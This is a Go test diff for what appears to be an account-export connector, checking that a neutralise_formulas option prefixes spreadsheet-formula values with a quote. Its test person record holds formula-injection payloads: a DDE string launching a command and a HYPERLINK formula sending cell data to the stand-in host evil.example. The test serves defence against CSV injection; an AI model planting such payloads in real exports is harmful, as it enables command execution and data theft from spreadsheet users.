@@ -299,3 +299,32 @@ func TestValidate(t *testing.T) {
 	}
 	require.NoError(t, (&Config{Dir: t.TempDir()}).Validate())
 }
+
+// A name a spreadsheet program would run as a formula reaches the file as
+// it is by default (an importer takes the file literally), and as text,
+// behind a single quote, with neutralise_formulas: true.
+func TestNeutraliseFormulas(t *testing.T) {
+	p := tilgang.Person{ID: "1547-10234", GivenName: `=cmd|' /C calc'!A0`, FamilyName: `=HYPERLINK("https://evil.example/?d="&A1,"klikk")`,
+		Email: "+ola@example.test", Municipality: "1547"}
+	for _, tc := range []struct {
+		name       string
+		neutralise bool
+		want       []string
+	}{
+		{"default: as it is", false, []string{p.ID, p.GivenName, p.FamilyName, p.Email, "true", "@drift|Flyt-Bruker"}},
+		{"neutralise_formulas: true", true, []string{p.ID, "'" + p.GivenName, "'" + p.FamilyName, "'" + p.Email, "true", "'@drift|Flyt-Bruker"}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			c := open(t, Config{Dir: t.TempDir(), NeutraliseFormulas: tc.neutralise})
+			a := connectors.Account{Person: p}
+			_, _, err := c.EnsureAccount(ctx, a)
+			require.NoError(t, err)
+			require.NoError(t, c.Grant(ctx, a, "@drift"))
+			require.NoError(t, c.Grant(ctx, a, "Flyt-Bruker"))
+			require.Equal(t, tc.want, row(t, c.Path(), p.ID))
+			members, err := c.ListMembers(ctx, "@drift")
+			require.NoError(t, err)
+			require.Equal(t, []connectors.Ref{{"id": p.ID}}, members, "the state keeps the values as they are")
+		})
+	}
+}
